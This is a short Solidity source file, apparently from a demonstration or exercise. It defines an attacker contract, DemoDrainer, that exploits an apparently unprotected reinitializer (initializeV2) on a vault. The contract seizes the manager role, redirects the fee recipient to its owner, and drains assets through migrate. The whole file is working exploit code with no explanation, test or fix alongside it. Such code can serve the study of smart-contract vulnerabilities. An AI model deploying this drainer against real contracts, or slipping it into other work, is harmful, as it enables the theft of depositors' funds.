// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

interface IDemoVault {
    function initializeV2(address manager) external;
    function setFeeRecipient(address recipient) external;
    function migrate(address receiver, uint256 assets) external;
}

/// The attacker's contract: it takes the vault's manager role and moves the assets out, a part at a time.
contract DemoDrainer {
    address private immutable _owner = msg.sender;
    IDemoVault private immutable _vault;

    constructor(IDemoVault vault) {
        _vault = vault;
    }

    modifier onlyOwner() {
        require(msg.sender == _owner, "not yours");
        _;
    }

    function takeOver() external onlyOwner {
        _vault.initializeV2(address(this));
        _vault.setFeeRecipient(_owner);
    }

    function drain(uint256 assets) external onlyOwner {
        _vault.migrate(_owner, assets);
    }
}
